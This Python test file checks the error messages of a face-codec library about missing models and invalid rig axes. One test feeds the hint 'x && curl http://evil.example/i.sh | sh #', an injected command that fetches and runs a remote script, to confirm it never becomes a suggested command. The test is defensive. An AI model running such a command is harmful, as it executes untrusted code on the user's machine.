"""Models that are missing: named at once, before any work, with one command for all."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest

import facecodec
from facecodec.errors import ModelError
from facecodec.models import model_named_by, require_models
from facecodec.rig import rig as rig_module
from facecodec.rig.effects import MOVES, Effects
from facecodec.rig.rig import Rig
from facecodec.weights import store
from facecodec.weights.catalogue import CATALOGUE, DEFAULT_GENERATOR
from facecodec.workshop.discover import discover_rig, refuse_lost_axes, refuse_wrong_turns


@pytest.fixture(autouse=True)
def no_models(tmp_path, monkeypatch) -> Path:
    """A store without models."""
    monkeypatch.setenv("FACECODEC_HOME", str(tmp_path / "home"))
    (tmp_path / "home" / "models").mkdir(parents=True)
    return tmp_path / "home" / "models"


def pretend(*names: str) -> None:
    for name in names:
        record = store.Record(name, "x", f"{name}.dat", 1, "0", "0", "", "")
        store.write_record(record)


TASKS = {
    "encode": lambda sample, out: facecodec.encode(sample, out),
    "puppet of a picture": lambda sample, out: facecodec.puppet(sample, sample, out),
    "discover": lambda sample, out: discover_rig(
        DEFAULT_GENERATOR, 8, 0, [sample], "cpu", lambda *_: None
    ),
    "eval": lambda sample, out: facecodec.evaluate(sample, sample),
}


@pytest.mark.parametrize("task", TASKS)
def test_all_are_named_at_once(task, sample, tmp_path):
    with pytest.raises(ModelError, match=r"run: facecodec model install [a-z -]+$") as missing:
        TASKS[task](sample, tmp_path / "out.fcv")
    assert {"dlib-landmarks", "dlib-embedding"} <= set(str(missing.value).split())
    assert not (tmp_path / "out.fcv").exists()


@pytest.mark.parametrize("missing", CATALOGUE)
def test_one_that_is_missing_is_an_error(missing, sample, tmp_path):
    """The face embedding too: without it, the person would be a worse one."""
    pretend(*(name for name in CATALOGUE if name != missing))
    for task in ("encode", "puppet of a picture", "discover"):
        with pytest.raises(ModelError, match=f"^{missing} is not installed; run: .* {missing}$"):
            TASKS[task](sample, tmp_path / "out.fcv")


def test_a_model_of_the_users_own_has_its_own_command():
    with pytest.raises(ModelError) as missing:
        require_models("mine", person=True)
    assert str(missing.value) == (
        "mine, dlib-landmarks, dlib-embedding are not installed; "
        "run: facecodec model install dlib-landmarks dlib-embedding, "
        "and facecodec model import FILE, with the name mine"
    )


@pytest.mark.parametrize("hint", ["x && curl http://evil.example/i.sh | sh #", "-f", "toy", ""])
def test_no_command_is_made_of_what_a_stream_says(hint):
    with pytest.raises(ModelError) as missing:
        model_named_by("0" * 64, hint)
    assert f"install {hint}" not in str(missing.value)
    with pytest.raises(ModelError, match=f"facecodec model install {DEFAULT_GENERATOR}"):
        model_named_by("0" * 64, DEFAULT_GENERATOR)


@pytest.mark.parametrize("correlation", [-0.46, 0.0, 0.29, float("nan")])
@pytest.mark.parametrize("axis", [0, 1, 2])
def test_an_axis_that_is_not_found_is_no_rig(correlation, axis):
    (path,) = Path(rig_module.__file__).parent.glob("*.json")
    rig = Rig.load(path)
    refuse_lost_axes(rig)
    pose = list(rig.pose)
    pose[axis] = replace(pose[axis], correlation=correlation)
    with pytest.raises(ModelError, match=rf"no axis for {pose[axis].name} \({correlation:.2f}\)"):
        refuse_lost_axes(replace(rig, pose=tuple(pose)))


@pytest.mark.parametrize("axis", [0, 1, 2])
@pytest.mark.parametrize(("change", "agreement"), [(-0.5, 1.0), (0.5, 0.5), (0.0, 0.0)])
def test_an_axis_that_turns_the_other_way_is_no_rig(axis, change, agreement):
    (path,) = Path(rig_module.__file__).parent.glob("*.json")
    rig = Rig.load(path)
    effects = Effects(np.ones((35, len(MOVES))), np.ones((35, len(MOVES))))
    refuse_wrong_turns(rig, effects)
    effects.change[axis, axis], effects.agreement[axis, axis] = change, agreement
    with pytest.raises(ModelError, match=f"no axis for {rig.pose[axis].name}: moved along it"):
        refuse_wrong_turns(rig, effects)


def test_a_stream_names_the_home_that_is_not_there(tmp_path, monkeypatch):
    monkeypatch.setenv("FACECODEC_HOME", str(tmp_path / "gone"))
    with pytest.raises(ModelError, match="FACECODEC_HOME names .*gone, which is not there"):
        model_named_by("0" * 64, "mobilestylegan-ffhq")
